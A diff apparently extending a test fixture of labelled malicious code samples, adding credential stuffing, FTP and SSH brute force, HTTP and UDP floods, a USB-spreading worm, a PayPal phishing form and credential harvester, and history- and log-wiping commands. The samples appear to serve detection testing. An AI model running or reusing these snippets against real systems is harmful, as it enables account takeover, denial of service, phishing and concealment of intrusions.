@@ -116,6 +116,74 @@ def on_press(key)   # missing colon: does not parse
     open("k.txt", "a").write(str(key))
 keyboard.Listener(on_press=on_press).start(
 """,
+    "async_stuffing": """
+import asyncio
+import aiohttp
+
+async def try_login(session, user, password):
+    async with session.post("https://shop.example.com/login", data={"u": user, "p": password}) as r:
+        return r.status == 302
+
+async def main():
+    combos = [line.strip().split(":") for line in open("combos.txt")]
+    async with aiohttp.ClientSession() as session:
+        hits = await asyncio.gather(*(try_login(session, u, p) for u, p in combos))
+""",
+    "generated_brute_force": """
+import itertools, string, ftplib
+
+for guess in itertools.product(string.ascii_lowercase + string.digits, repeat=4):
+    ftp = ftplib.FTP("203.0.113.9")
+    try:
+        ftp.login("admin", "".join(guess))
+        break
+    except ftplib.error_perm:
+        pass
+""",
+    "history_wipe_shell": """
+import os
+os.system("rm -f ~/.bash_history ~/.zsh_history")
+os.environ["HISTFILE"] = "/dev/null"
+""",
+    "usb_worm": """
+import shutil, sys, psutil
+
+for part in psutil.disk_partitions():
+    if "removable" in part.opts:
+        shutil.copy(sys.argv[0], part.mountpoint + "/photos.py")
+""",
+    "http_flood": """
+import threading, requests
+
+def attack():
+    while True:
+        requests.get("http://game.example.net/")
+
+for _ in range(500):
+    threading.Thread(target=attack, daemon=True).start()
+""",
+    "udp_flood": """
+import random, socket
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+payload = random._urandom(1490)
+while True:
+    sock.sendto(random._urandom(1490), ("203.0.113.7", 27015))
+""",
+}
+
+OTHER_LANGUAGES: dict[str, tuple[str, str]] = {
+    "php_harvester": (
+        "php",
+        '<?php file_put_contents("log.txt", $_POST["email"] . ":" . $_POST["password"], FILE_APPEND);\n'
+        'header("Location: https://www.paypal.com/signin"); ?>',
+    ),
+    "cloned_form": (
+        "html",
+        '<h1>PayPal</h1><form action="https://collect.example.net/p" method="post">'
+        '<input name="email"><input type="password" name="pw"></form>',
+    ),
+    "hydra": ("bash", "hydra -L users.txt -P rockyou.txt ssh://10.0.0.5"),
+    "log_wipe": ("bash", "shred -u /var/log/auth.log && history -c"),
 }
 
 DEFENSIVE: dict[str, str] = {
